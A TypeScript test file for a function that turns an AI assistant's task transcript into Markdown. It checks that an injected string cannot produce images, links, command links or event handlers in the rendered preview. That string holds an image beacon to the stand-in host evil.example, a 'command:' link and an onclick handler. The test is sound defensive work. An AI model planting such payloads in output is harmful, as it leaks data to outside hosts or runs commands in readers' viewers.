import assert from 'node:assert/strict';
import { marked } from 'marked';
import { transcriptMarkdown } from '../../../src/host/chat/transcriptMarkdown.ts';
import type { Item } from '../../../src/protocol/transcript.ts';
import { translate } from '../../fakes/translate.ts';

const BEACON = '![x](https://evil.example/?k=1) <img src="https://evil.example"> [a](command:x) ``` ```` <b onclick=x>';

/** All places where text of others can stand. */
const items: readonly Item[] = [
	{ kind: 'user', id: '1', text: BEACON, chips: [] },
	{ kind: 'reasoning', id: '2', text: BEACON, state: 'done' },
	{ kind: 'text', id: '3', text: `One\n\`\`\`\ncode\n\`\`\`\n${BEACON}`, state: 'done' },
	{ kind: 'tool', id: '4', name: 'read', state: 'done', verb: 'Read', subject: BEACON, note: BEACON },
	{
		...{ kind: 'tool', id: '5', name: 'bash', state: 'done', verb: 'Ran', subject: 'ls', note: '' },
		detail: { kind: 'command', command: BEACON, output: BEACON },
	},
	{
		...{ kind: 'tool', id: '6', name: 'edit', state: 'done', verb: 'Edited', subject: 'a.ts', note: '' },
		detail: { kind: 'diff', path: 'a.ts', hunks: [{ oldStart: 1, newStart: 1, lines: ['-a', `+${BEACON}`] }] },
	},
	{ kind: 'notice', id: '7', icon: 'warning', text: BEACON, detail: { kind: 'text', text: BEACON } },
	{ kind: 'error', id: '8', title: BEACON, text: BEACON, actions: [] },
];

describe('the transcript of a task as a document', () => {
	it('draws no picture, follows no link and runs nothing in a preview, whatever stands in it', () => {
		const html = String(marked.parse(transcriptMarkdown(`Title ${BEACON}`, items, translate)));
		assert.doesNotMatch(html, /<img|<a\s|<b\s|<script/i);
		// It is all there to be read.
		assert.equal(html.match(/evil\.example\/\?k=1/g)?.length, 1 + 3 + 2 + 2 + 1 + 2 + 2);
	});
	it('holds what was asked, done and answered, in order', () => {
		const text = transcriptMarkdown(
			'Find it',
			[
				{ kind: 'user', id: '1', text: 'Where is it?', chips: [] },
				{ kind: 'tool', id: '2', name: 'read', state: 'done', verb: 'Read', subject: 'src/a.ts', note: '84 lines' },
				{ kind: 'text', id: '3', text: 'Here.\n', state: 'done' },
			],
			translate,
		);
		assert.equal(
			text,
			'# Find it\n\n## Task\n\n```\nWhere is it?\n```\n\n- Read · `src/a.ts` · 84 lines\n\n## Answer\n\n```\nHere.\n```\n',
		);
	});
});
